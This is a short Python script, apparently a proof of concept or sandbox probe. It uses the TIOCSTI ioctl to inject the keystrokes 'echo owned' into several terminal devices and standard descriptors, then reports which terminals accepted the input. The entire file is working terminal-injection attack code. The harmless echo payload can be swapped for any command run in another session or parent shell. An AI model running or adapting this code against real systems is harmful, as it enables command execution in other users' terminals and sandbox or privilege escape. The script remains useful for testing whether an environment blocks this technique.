import fcntl
import os
import termios

typed = []
for place in ("/dev/tty", "/dev/console", "/dev/tty1", "/dev/pts/0", 0, 1, 2):
    try:
        fd = place if isinstance(place, int) else os.open(place, os.O_RDWR)
        for character in b"echo owned\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([character]))
        typed.append(place)
    except OSError:
        pass
raise SystemExit(f"it typed into {len(typed)} terminals {typed}")
